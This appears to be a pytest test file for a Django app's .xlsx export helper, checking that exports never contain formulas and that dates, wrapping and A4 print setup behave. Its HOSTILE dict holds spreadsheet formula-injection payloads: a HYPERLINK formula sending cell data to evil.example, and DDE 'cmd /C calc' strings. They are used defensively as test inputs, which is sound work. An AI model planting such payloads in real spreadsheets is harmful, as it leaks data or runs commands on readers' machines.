"""No formulas in exports: every .xlsx the app writes keeps user text as text (lib/xlsx.py).

Each export is fetched as a user would, with hostile text in every kind of user field, and its
sheet XML is read directly: no ``<f>`` element anywhere, and the hostile text is there as text.
"""

from __future__ import annotations

import copy
import datetime as dt
import io
import itertools
import re
import unicodedata
import zipfile
from decimal import Decimal
from typing import Any
from xml.etree import ElementTree as ET

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Alignment
from openpyxl.utils import get_column_letter

from xieguan.employers.codelists import ensure_code_lists
from xieguan.employers.tests import xlsx as ledger_xlsx
from xieguan.indicators.tests.factories import InspectionFactory, answer_all, at, fubiao1_template
from xieguan.lib import xlsx
from xieguan.lib.tabular import BORDER, Column, write_table
from xieguan.lib.testing import TOWNSHIP, EmployerFactory
from xieguan.personnel.tests.factories import AssistantFactory

pytestmark = pytest.mark.django_db

HOSTILE = {
    "eq": '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "fullwidth": "＝1+1",
}


def sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        names = [n for n in archive.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
        assert names, "not an .xlsx"
        return "".join(archive.read(n).decode() for n in names)


def texts(content: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(content))
    return [str(v) for ws in book.worksheets for row in ws.iter_rows(values_only=True) for v in row if v]


def assert_no_formulas(content: bytes, *expected: str) -> None:
    xml = sheet_xml(content)
    assert not re.search(r"<f[ >]", xml), "a formula in an export"
    values = texts(content)
    for text in expected:
        assert any(text.strip() in v for v in values), text


def hostile_book(header: list[str], rows: list[list[Any]]) -> bytes:
    """An uploaded workbook whose cells hold the hostile text as strings (as Excel stores them)."""
    book = Workbook()
    ws = book.active
    assert ws is not None
    ws.append(header)
    for values in rows:
        ws.append(values)
        for cell in ws[ws.max_row]:
            if isinstance(cell.value, str):
                cell.data_type = "s"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


# --- the helper --------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE.values())
def test_guard_keeps_risky_text_as_quote_prefixed_text(text):
    book = Workbook()
    ws = book.active
    assert ws is not None
    ws["A1"] = text
    ws["A2"] = "普通文字"
    ws["A3"] = 42
    content = xlsx.to_bytes(book)
    assert "<f>" not in sheet_xml(content)
    again = load_workbook(io.BytesIO(content)).active
    assert again is not None
    assert again["A1"].value == text and again["A1"].data_type == "s" and again["A1"].quotePrefix
    assert again["A2"].value == "普通文字" and not again["A2"].quotePrefix
    assert again["A3"].value == 42


def test_streamed_table_guards_every_row():
    buffer = io.BytesIO()
    columns = [Column("a", "名称"), Column("b", "备注")]
    write_table(buffer, title=HOSTILE["eq"], columns=columns, rows=[[v, v] for v in HOSTILE.values()])
    assert_no_formulas(buffer.getvalue(), *HOSTILE.values())


# Every kind of value an export writes, and the edges of each: spaces kept, XML's special
# characters, a carriage return, a control character (shown as a mark), risky text, dates.
EDGE_VALUES = [
    None, "文字", dt.date(2024, 1, 2), dt.datetime(2024, 1, 2, 3, 4, 5), " 前后有空格 ",
    "a&b<c>\"'\r\n\tz", "",
    1.5, 10**17, True, False, 0, *HOSTILE.values(), "响\x07铃", "\x0b竖表\x1f", "x" * 40000,
    # numbers a spreadsheet has no value for (openpyxl leaves the cell empty), others at the edges,
    # characters outside the BMP, a lone surrogate, a non-character and NUL
    float("nan"), float("inf"), -float("inf"), Decimal("NaN"), Decimal("1.25"), 2**70, -0.0,
    "😀𠮷𪚥", "\ud800a\ufffe\x00", "]]>",
]  # fmt: skip


def _frame(styled: bool) -> tuple[Workbook, Any, Any]:
    book = Workbook(write_only=True)
    ws = book.create_sheet("表")
    ws.column_dimensions["A"].width = 12
    ws.append(["标题"])
    ws.append(["列"] * len(EDGE_VALUES))
    if not styled:
        return book, ws, None
    model = WriteOnlyCell(ws)
    model.border = BORDER
    model.alignment = Alignment(vertical="top", wrap_text=True)
    return book, ws, model._style


def _canonical_parts(content: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {
            name: ET.canonicalize(archive.read(name).decode())
            for name in archive.namelist()
            if name != "docProps/core.xml"  # the time it was made
        }


@pytest.mark.parametrize("styled", [False, True])
def test_save_rows_writes_what_openpyxl_writes(styled):
    """``xlsx.save_rows`` (the rows' XML written directly) against openpyxl's write-only writer
    given the same rows through ``xlsx.row`` / ``xlsx.cells``: every part of the file the same
    XML (openpyxl writes non-ASCII text as character references, ``save_rows`` as UTF-8)."""
    book, ws, style = _frame(styled)
    for number, height in ((3, 20.5), (4, None)):
        if height:
            ws.row_dimensions[number].height = height
        if style is None:
            ws.append(xlsx.row(ws, EDGE_VALUES))
            continue
        cells = []
        for value in EDGE_VALUES:
            cell = WriteOnlyCell(ws)
            cell._style = copy.copy(style)
            if isinstance(value, dt.datetime):
                cell.number_format = xlsx.DATETIME_FORMAT  # before the value: openpyxl's not registered
            elif isinstance(value, int | float | Decimal) and not isinstance(value, bool):
                xlsx.centred(cell)  # a printed table's number, as save_rows centres it
            cell.value = xlsx.visible(value)  # as printed_rows gives it
            cells.append(cell)
        ws.append(xlsx.cells(ws, cells))
    by_openpyxl = io.BytesIO()
    book.save(by_openpyxl)

    book, ws, style = _frame(styled)
    by_rows = io.BytesIO()
    assert (
        xlsx.save_rows(book, ws, by_rows, [(EDGE_VALUES, 20.5), (EDGE_VALUES, None)], start=3, style=style)
        == 2
    )
    assert _canonical_parts(by_rows.getvalue()) == _canonical_parts(by_openpyxl.getvalue())
    again = load_workbook(by_rows).worksheets[0]
    assert again["M3"].value == HOSTILE["eq"] and again["M3"].quotePrefix and again["M3"].data_type == "s"
    assert again["C4"].value == dt.datetime(2024, 1, 2) and again["C4"].number_format == "yyyy-mm-dd"
    assert again.row_dimensions[3].height == 20.5


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (dt.date(1899, 12, 31), "1899-12-31"),
        (dt.date(1900, 2, 28), "1900-02-28"),
        (dt.date(1, 1, 1), "0001-01-01"),
        (dt.datetime(1899, 12, 30, 8, 30), "1899-12-30 08:30"),
        (dt.datetime(1899, 12, 31, tzinfo=dt.UTC), "1899-12-31 08:05"),  # local (Shanghai's LMT then)
    ],
)
def test_dates_before_1900_march_are_written_as_text_by_every_writer(value, text):
    """Excel has no date before 1900 and counts a 1900-02-29 that never was; LibreOffice reads the
    serials before 1900-03-01 a day early and 1899-12-30/31 (serial 0) read back as a time of day.
    Such a value is written as the text it shows (``DATE_FORMAT``, ``DATETIME_FORMAT``)."""
    written = []
    book, ws, _style = _frame(False)
    buffer = io.BytesIO()
    xlsx.save_rows(book, ws, buffer, [([value], None)], start=3)
    written.append(load_workbook(buffer).worksheets[0]["A3"].value)
    for make in (lambda ws: xlsx.row(ws, [value]), lambda ws: xlsx.cells(ws, [value])):
        book = Workbook(write_only=True)
        ws = book.create_sheet("表")
        ws.append(make(ws))
        buffer = io.BytesIO()
        xlsx.save(book, buffer)
        written.append(load_workbook(buffer).worksheets[0]["A1"].value)
    book = Workbook()
    book.active["A1"] = value.replace(tzinfo=None) if isinstance(value, dt.datetime) else value
    written.append(load_workbook(io.BytesIO(xlsx.to_bytes(book))).active["A1"].value)
    expected = text if not (isinstance(value, dt.datetime) and value.tzinfo) else "1899-12-31 00:00"
    assert written == [text, text, text, expected]


def test_save_rows_streams_into_an_empty_sheet_and_refuses_a_normal_workbook():
    book = Workbook(write_only=True)
    ws = book.create_sheet("表")
    buffer = io.BytesIO()
    assert xlsx.save_rows(book, ws, buffer, iter([(["甲", 1], None)]), start=1) == 1
    assert [list(r) for r in load_workbook(buffer).worksheets[0].iter_rows(values_only=True)] == [["甲", 1]]
    with pytest.raises(ValueError, match="write-only"):
        xlsx.save_rows(Workbook(), ws, io.BytesIO(), [], start=1)


# What ``RowWriter`` must write exactly as ``_row_xml`` does: each kind of value, texts at the
# edges of its one-format form (a space, a formula trigger or a separator-like NUL at either end,
# escapes, marks, a text over a cell's limit) and dates on both sides of ``FIRST_DATE``.
_EDGE_TEXT = st.text(
    alphabet=st.sampled_from(
        ["a", "甲", "𠮷", " ", "\u3000", "\xa0", "\t", "\n", "\r", "\x00", "\x07", "&", "<", ">", '"',
         "{", "}", "=", "+", "-", "@", "＝", "\ufffe", "\ud800"]
    ),
    max_size=6,
)  # fmt: skip
_CELL_VALUES = st.one_of(
    st.none(),
    st.sampled_from(["", "文字", "甲厂 (B)", "x" * (xlsx.MAX_TEXT + 1), "#N/A", "{0}", "]]>"]),
    _EDGE_TEXT,
    # text without escapes or marks: its spaces and triggers at either end decide its form
    st.text(alphabet=st.sampled_from(["a", "甲", " ", "\u3000", "=", "-", "{", "}"]), max_size=4),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=True, allow_infinity=True),
    st.decimals(allow_nan=False, allow_infinity=False, places=2),
    st.just(Decimal("NaN")),  # a quiet NaN (a signalling one raises in any comparison)
    st.dates(min_value=dt.date(1899, 12, 1), max_value=dt.date(2100, 1, 1)),
    st.datetimes(min_value=dt.datetime(1899, 12, 30), max_value=dt.datetime(2100, 1, 1)),
    st.datetimes(
        min_value=dt.datetime(1899, 12, 30), max_value=dt.datetime(2100, 1, 1), timezones=st.just(dt.UTC)
    ),
    st.sampled_from(  # either side of FIRST_DATE, in local time too (Shanghai was 8:05:43 ahead then)
        [dt.date(1900, 2, 28), dt.date(1900, 3, 1), dt.datetime(1900, 2, 28, 23, 59, 59),
         dt.datetime(1900, 3, 1), dt.datetime(1900, 2, 28, 15, 55, tzinfo=dt.UTC),
         dt.datetime(1900, 2, 28, 15, 54, tzinfo=dt.UTC)]
    ),
)  # fmt: skip


def _row_styles(styled: bool) -> Any:
    """The data cells' styles of a write-only sheet (unstyled, or the printable versions' box)."""
    ws = Workbook(write_only=True).create_sheet("表")  # nothing appended: nothing left to close
    if not styled:
        return xlsx._Styles(ws, None)
    model = WriteOnlyCell(ws)
    model.border = BORDER
    model.alignment = Alignment(vertical="top", wrap_text=True)
    return xlsx._Styles(ws, model._style)


@settings(max_examples=300, deadline=None)
@given(
    rows=st.lists(st.lists(_CELL_VALUES, min_size=1, max_size=8), min_size=1, max_size=12),
    styled=st.booleans(),
    heights=st.sampled_from([None, 20.5, 409.0]),
)
def test_row_writer_writes_what_row_xml_writes(rows, styled, heights):
    """``xlsx.RowWriter`` (a row by one ``str.format`` where that gives the same XML) against
    ``_row_xml`` (cell by cell, the writer ``test_save_rows_writes_what_openpyxl_writes``
    compares with openpyxl): the same XML for every row, in one writer whose row forms are
    kept from row to row."""
    styles = _row_styles(styled)
    write = xlsx.RowWriter(styles)
    for number, values in enumerate(rows + rows, start=3):  # every form used again
        refs = [f'<c r="{get_column_letter(i)}' for i in range(1, len(values) + 1)]
        assert write(number, values, heights) == xlsx._row_xml(number, values, heights, refs, styles)


def test_row_writer_checks_each_texts_edges_in_a_row():
    """Every pair and triple of short texts at the edges of the one-format form (a space or a
    trigger at either end of any of them, NUL, braces, escapes) as ``_row_xml`` writes them."""
    edges = ["", "a", " a", "a ", "=a", "a=", "-", "\u3000", "甲\n", "\n甲", "a\x00b", "\x00", "a&b", "{0}"]
    styles = _row_styles(False)
    write = xlsx.RowWriter(styles)
    refs = [f'<c r="{get_column_letter(i)}' for i in range(1, 4)]
    rows = [list(p) for size in (1, 2, 3) for p in itertools.product(edges, repeat=size)]
    for number, values in enumerate(rows, start=3):
        assert write(number, values, None) == xlsx._row_xml(number, values, None, refs, styles), values


@pytest.mark.parametrize("styled", [False, True])
def test_row_writer_writes_ordinary_rows_by_their_form(styled, monkeypatch):
    """A row of text, empty cells, numbers, booleans, dates and date-times (a ledger row) is
    written by its kept form, without ``_row_xml``; a row with text to escape or guard, or a day
    before 1900-03-01, by ``_row_xml``. Both as ``_row_xml`` writes them."""
    styles = _row_styles(styled)
    by_cells = []
    reference = xlsx._row_xml

    def counted(*args: Any) -> str:
        by_cells.append(args[0])
        return reference(*args)

    monkeypatch.setattr(xlsx, "_row_xml", counted)
    write = xlsx.RowWriter(styles)
    moment = dt.datetime(2025, 6, 1, 4, 5, 6, tzinfo=dt.UTC)
    ordinary: list[Any] = ["甲厂", "", None, 12, True, dt.date(2025, 1, 2), moment, "是"]
    rows: list[list[Any]] = [
        ordinary, ["乙厂", "a&b", *ordinary[2:]], ordinary, [" 空格", *ordinary[1:]],
        ["=1+1", *ordinary[1:]], [*ordinary[:5], dt.date(1900, 2, 28), *ordinary[6:]],
        ["丙厂", "", None, 0, False, None, moment, "否"],
    ]  # fmt: skip
    expected = []
    for number, values in enumerate(rows, start=3):
        refs = [f'<c r="{get_column_letter(i)}' for i in range(1, len(values) + 1)]
        expected.append(reference(number, values, None, refs, styles))
        assert write(number, values, None) == expected[-1]
    assert by_cells == [4, 6, 7, 8]  # the rows with text to escape or guard, or an early day
    assert "<v>45659</v>" in expected[0] and ' t="b"><v>1</v>' in expected[0]


# --- every export ------------------------------------------------------------------------


@pytest.fixture
def hostile(personas):
    ensure_code_lists()
    employer = EmployerFactory.create(
        name=HOSTILE["eq"],
        address=HOSTILE["plus"],
        legal_representative=HOSTILE["minus"],
        region_id=TOWNSHIP + "001",
    )
    inspection = InspectionFactory.create(
        template=fubiao1_template(),
        employer=employer,
        assistant=personas.xieguan,
        inspected_at=at(2025, 3, 5),
        address=HOSTILE["plus"],
    )
    answer_all(inspection, findings={3: HOSTILE["at"]})
    from xieguan.leads.tests.factories import make_lead

    make_lead(personas, employer=employer, description=HOSTILE["at"])
    assistant = AssistantFactory.create(name=HOSTILE["eq"], specialty=HOSTILE["minus"], user=personas.xieguan)
    return {"employer": employer, "inspection": inspection, "assistant": assistant}


def test_ledger_lead_register_and_roster_exports(client_for, hostile):
    client = client_for("panzhou")
    ledger = client.get(reverse("employers:export"))
    assert_no_formulas(b"".join(ledger.streaming_content), HOSTILE["eq"], HOSTILE["plus"], HOSTILE["minus"])
    register = client.get(reverse("leads:export"))
    assert_no_formulas(b"".join(register.streaming_content), HOSTILE["at"])
    roster = client.get(reverse("personnel:export"))
    assert_no_formulas(b"".join(roster.streaming_content), HOSTILE["eq"], HOSTILE["minus"])


def test_official_forms_and_tables(client_for, personas, hostile):
    client = client_for("panzhou")
    fubiao2 = client.get(
        reverse("indicators:register_file", args=["xlsx"]), {"assistant": personas.xieguan.pk, "year": 2025}
    )
    assert_no_formulas(fubiao2.content, HOSTILE["at"].strip())
    for name in ("indicators:dashboard_xlsx", "funding:export"):
        response = client_for("sheng").get(reverse(name))
        assert response.status_code == 200, name
        content = b"".join(response.streaming_content) if response.streaming else response.content
        assert_no_formulas(content)
    for name in ("employers:import_template", "personnel:roster_template"):
        assert_no_formulas(client.get(reverse(name)).content)


def test_import_reports_repeat_uploaded_text_as_text(client_for, hostile):
    client = client_for("xieguan")
    rows = [ledger_xlsx.row(**{"用人单位名称": HOSTILE["eq"], "地址": HOSTILE["plus"], "劳动者人数": "=1+1"})]
    upload = SimpleUploadedFile("台账.xlsx", hostile_book(ledger_xlsx.HEADER, rows))
    response = client.post(reverse("employers:import"), {"file": upload})
    assert response.status_code == 302
    report = client.get(response["Location"] + "report.xlsx")
    assert report.status_code == 200
    assert_no_formulas(report.content, HOSTILE["eq"], HOSTILE["plus"], "=1+1")

    county = client_for("panzhou")
    header = ["姓名", "性别", "身份证号", "联系电话", "文化程度", "专业", "人员来源", "所在乡(镇、街道)"]
    roster_rows = [[HOSTILE["eq"], "女", "@12345", HOSTILE["minus"], "大专", HOSTILE["at"], "村医", "柏果镇"]]
    upload = SimpleUploadedFile("花名册.xlsx", hostile_book(header, roster_rows))
    response = county.post(reverse("personnel:roster_import"), {"file": upload})
    assert response.status_code == 200
    target = reverse("personnel:roster_report", args=[response.context["token"]])
    report = county.get(target)
    assert report.status_code == 200
    assert_no_formulas(report.content, HOSTILE["eq"], HOSTILE["at"], "@12345")


# --- every export prints on A4 (issue 15) -------------------------------------------------------


PRINTED = [
    ("employers:export", {}, "panzhou", "$2:$2", "$A:$A"),
    ("employers:export", {"print": "1"}, "panzhou", "$2:$2", "$A:$A"),
    ("leads:export", {}, "panzhou", "$3:$3", None),
    ("personnel:export", {}, "panzhou", "$2:$2", "$A:$A"),
    ("indicators:dashboard_xlsx", {}, "sheng", "$3:$4", "$A:$A"),
    ("funding:export", {}, "sheng", "$2:$2", "$A:$B"),
]


def fetch(client: Any, url: str, params: dict[str, Any] | None = None, args: Any = ()) -> Any:
    response = client.get(reverse(url, args=args), params or {})
    assert response.status_code == 200, url
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return load_workbook(io.BytesIO(content)).worksheets[0]


def assert_prints_on_a4(ws: Any, title_rows: str, title_cols: str | None, narrowest: float = 3) -> None:
    setup = ws.page_setup
    assert setup.paperSize in (9, "9")
    assert setup.orientation == "landscape"
    across = sum(
        (dim.max - dim.min + 1) * dim.width for dim in ws.column_dimensions.values() if dim.customWidth
    )
    wide = xlsx.pages_wide(across)  # one page across, or the pages a very wide table needs
    if ws.col_breaks.brk:  # its own breaks across (the indicator table): at a scale, which keeps them
        assert len(ws.col_breaks.brk) == wide - 1 and 10 <= int(setup.scale) <= 100
        assert not ws.sheet_properties.pageSetUpPr.fitToPage
    else:
        assert (int(setup.fitToWidth), int(setup.fitToHeight)) == (wide, 0), (across, setup.fitToWidth)
        assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert title_rows in (ws.print_title_rows or "")
    if title_cols:
        assert title_cols in (ws.print_title_cols or "")
    assert "&P" in (ws.oddFooter.center.text or "")
    # the footer's line fits between the footer's edge distance and the bottom margin (0.1 inch
    # cut LibreOffice's page number in half): at least a line of 11-point text and its spacing
    assert ws.page_margins.bottom - ws.page_margins.footer >= 0.25, (
        ws.page_margins.bottom,
        ws.page_margins.footer,
    )
    # bold text (title, header, totals) names its font: without one LibreOffice printed it in a serif face
    bold = [c for row in ws.iter_rows() for c in row if c.font is not None and c.font.b]
    assert bold and all(c.font.name for c in bold), [c.coordinate for c in bold if not c.font.name][:5]
    # every column used has a width made for its text, not Excel's default
    widths: dict[int, float] = {}
    for dim in ws.column_dimensions.values():  # openpyxl groups equal neighbours in one <col>
        if dim.customWidth:
            widths.update(dict.fromkeys(range(dim.min, dim.max + 1), dim.width))
    for index in range(1, ws.max_column + 1):
        assert widths.get(index, 0) >= narrowest, (index, widths)


@pytest.mark.parametrize(("url", "params", "user", "title_rows", "title_cols"), PRINTED)
def test_exports_have_an_a4_page_setup(client_for, hostile, url, params, user, title_rows, title_cols):
    assert_prints_on_a4(fetch(client_for(user), url, params), title_rows, title_cols)


def test_fubiao2_xlsx_has_an_a4_page_setup(client_for, personas, hostile):
    params = {"assistant": personas.xieguan.pk, "year": 2025}
    ws = fetch(client_for("panzhou"), "indicators:register_file", params, args=["xlsx"])
    header_row = next(r for r in range(1, ws.max_row + 1) if ws.cell(r, 1).value == "序号")
    assert_prints_on_a4(ws, f"${header_row}:${header_row}", None, narrowest=1)  # a grid of merged cells
    assert ws.cell(2, 1).value == "职业健康监督协管巡查工作登记表"  # the title on the first page


def test_the_ledger_has_a_printable_version_beside_the_data_file(client_for, personas, hostile):
    client = client_for("panzhou")
    data = fetch(client, "employers:export")
    paper = fetch(client, "employers:export", {"print": "1"})
    data_header = [c.value for c in data[2]]
    paper_header = [c.value for c in paper[2]]
    assert len(data_header) == 27 and 10 <= len(paper_header) <= 14
    assert set(paper_header) < set(data_header) and paper_header[0] == "用人单位名称"
    assert "打印版" in paper["A1"].value
    row = [c.value for c in paper[3]]
    assert row[0] == HOSTILE["eq"] and paper[3][0].alignment.wrap_text
    # each row as high as its text; the widest column no wider than a printed page allows
    heights = [paper.row_dimensions[r].height for r in range(3, paper.max_row + 1)]
    assert all(h and h >= xlsx.LINE_PT for h in heights)
    assert max(paper.column_dimensions[get_column_letter(i)].width for i in range(1, 14)) <= 30


def test_long_lead_text_is_as_high_as_its_lines_and_continues_past_excels_row_limit(client_for, personas):
    from xieguan.leads.tests.factories import make_lead

    medium = "作业场所粉尘弥漫，工人未佩戴防尘口罩。" * 12  # several lines in the 信息内容 column
    long = "粉碎车间粉尘浓度明显超标，除尘设施停用，工人未佩戴防护用品。" * 200  # taller than 409 pt
    make_lead(personas, description=medium, discovered_at=at(2025, 3, 5))
    make_lead(personas, description=long, discovered_at=at(2025, 3, 6))
    ws = fetch(client_for("panzhou"), "leads:export")
    header = [c.value for c in ws[3]]
    content = header.index("信息内容") + 1
    width = ws.column_dimensions[get_column_letter(content)].width
    rows = list(range(4, ws.max_row + 1))
    first = rows[0]
    lines = len(xlsx.text_lines(ws.cell(first, content).value, width))
    assert lines > 3 and ws.row_dimensions[first].height >= lines * xlsx.LINE_PT
    assert all(ws.row_dimensions[r].height <= xlsx.MAX_ROW_PT for r in rows)
    continued = [r for r in rows if str(ws.cell(r, 1).value).endswith("（续）")]
    assert continued and ws.cell(continued[0], 1).value == "2（续）"
    printed = "".join(ws.cell(r, content).value or "" for r in rows[1:])
    assert "".join(printed.split()) == "".join(long.split())  # nothing lost in the cut


def test_printed_rows_cut_only_what_excel_cannot_show():
    widths = [6, 20]
    assert xlsx.printed_rows([1, "短"], widths) == [([1, "短"], xlsx.LINE_PT + xlsx.ROW_PAD_PT)]
    text = "\n".join(f"第{i}段" + "字" * 30 for i in range(40))
    parts = xlsx.printed_rows([7, text], widths)
    assert len(parts) > 1 and [p[0][0] for p in parts[1:]] == ["7（续）"] * (len(parts) - 1)
    assert all(height <= xlsx.MAX_ROW_PT for _, height in parts)
    assert "".join(p[0][1] for p in parts).replace("\n", "") == text.replace("\n", "")
    assert parts[0][0][1].count("\n") > 3  # paragraphs stay paragraphs


def _wrapped_by_characters(paragraph: str, width: float) -> list[str]:
    """The line cutting ``xlsx._wrapped`` does, one character at a time (as it did before it bisected)."""
    room = max(2.0, width - 1.5)
    lines: list[str] = []
    current = ""
    used = 0
    for ch in paragraph:
        w = 2 if unicodedata.east_asian_width(ch) in "WF" else 1
        if used + w > room and current:
            lines.append(current)
            current, used = "", 0
        current += ch
        used += w
    return [*lines, current]


@settings(max_examples=300, deadline=None)
@given(
    paragraph=st.text(alphabet=st.sampled_from("字符ａ１aB1 ,，。—…\t\u3000"), max_size=120),
    width=st.sampled_from([1, 3, 4.5, 6, 9, 10, 13, 20, 22, 40, 100]),
)
def test_wrapping_cuts_lines_as_character_by_character(paragraph, width):
    assert xlsx._wrapped(paragraph, width) == _wrapped_by_characters(paragraph, width)


# --- dates on paper (review of the printed exports) ---------------------------------------------


def test_dates_are_centred_and_date_times_written_to_the_minute(client_for, personas, hostile):
    """A date or date-time cell is centred (right-aligned, Excel's default for numbers, it printed
    against the next column's text: "2025-05-26是"), in every export and version; a date-time is
    written to the minute it shows (a 报告时间 that kept its seconds was missed by a filter on
    the minute)."""
    from zoneinfo import ZoneInfo

    from xieguan.leads.tests.factories import make_lead, report

    lead = make_lead(personas, discovered_at=at(2025, 3, 5))
    shanghai = ZoneInfo("Asia/Shanghai")
    report(lead, personas, at=dt.datetime(2025, 3, 5, 11, 22, 33, 444_555, tzinfo=shanghai))
    client = client_for("panzhou")
    register = fetch(client, "leads:export")
    header = [c.value for c in register[3]]
    reported = [register.cell(r, header.index("报告时间") + 1) for r in range(4, register.max_row + 1)]
    assert dt.datetime(2025, 3, 5, 11, 22) in [c.value for c in reported]
    for cell in reported:
        if cell.value is not None:
            assert cell.value.second == cell.value.microsecond == 0, cell.value
            assert cell.number_format == xlsx.DATETIME_FORMAT
    dated = 0
    for ws in (
        register,
        fetch(client, "employers:export"),
        fetch(client, "employers:export", {"print": "1"}),
        fetch(client, "personnel:export"),
    ):
        for row in ws.iter_rows():
            for cell in row:
                if getattr(cell, "is_date", False) and cell.value is not None:
                    dated += 1
                    assert cell.alignment.horizontal == "center", (ws.title, cell.coordinate)
    assert dated >= 4


def test_numbers_in_the_printed_ledger_are_centred_apart_from_the_next_column(client_for, personas):
    """In the 打印版 a number is centred, as dates are: right-aligned (a spreadsheet's default),
    接触人数 printed against the next column's left-aligned 生产状态 ("40在产"). The data file
    keeps numbers as spreadsheets show them."""
    ensure_code_lists()
    EmployerFactory(exposed_workers=40, workers=80)
    client = client_for("panzhou")
    paper = fetch(client, "employers:export", {"print": "1"})
    header = [c.value for c in paper[2]]
    exposed = header.index("接触职业病危害因素人数")
    assert header[exposed + 1] == "生产状态"
    cells = [paper.cell(r, exposed + 1) for r in range(3, paper.max_row + 1)]
    assert 40 in [c.value for c in cells]
    assert all(c.alignment.horizontal == "center" for c in cells if isinstance(c.value, int)), [
        (c.value, c.alignment.horizontal) for c in cells
    ]
    data = fetch(client, "employers:export")
    header = [c.value for c in data[2]]
    numbers = [data.cell(r, header.index("接触职业病危害因素人数") + 1) for r in range(3, data.max_row + 1)]
    assert 40 in [c.value for c in numbers]
    assert all(c.alignment.horizontal is None for c in numbers)


@pytest.mark.parametrize("styled", [False, True])
def test_every_writer_centres_dates_and_cuts_seconds(styled):
    """``save_rows``, ``row`` and ``cells`` write a date or date-time alike: centred (keeping the
    style's other alignment), a date-time to the minute."""
    moment = dt.datetime(2024, 1, 2, 3, 4, 5, 678)
    book, ws, style = _frame(styled)
    buffer = io.BytesIO()
    xlsx.save_rows(book, ws, buffer, [([dt.date(2024, 1, 2), moment, "文字"], None)], start=3, style=style)
    sheet = load_workbook(buffer).worksheets[0]
    day, when, text = sheet["A3"], sheet["B3"], sheet["C3"]
    assert when.value == dt.datetime(2024, 1, 2, 3, 4)
    assert day.alignment.horizontal == when.alignment.horizontal == "center"
    assert text.alignment.horizontal is None
    if styled:
        assert day.alignment.wrap_text and day.alignment.vertical == "top"
    for make in (lambda ws: xlsx.row(ws, [dt.date(2024, 1, 2), moment]), lambda ws: xlsx.cells(ws, [moment])):
        book = Workbook(write_only=True)
        ws = book.create_sheet("表")
        ws.append(make(ws))
        buffer = io.BytesIO()
        xlsx.save(book, buffer)
        cells = next(load_workbook(buffer).worksheets[0].iter_rows())
        assert all(c.alignment.horizontal == "center" for c in cells)
        assert cells[-1].value == dt.datetime(2024, 1, 2, 3, 4)
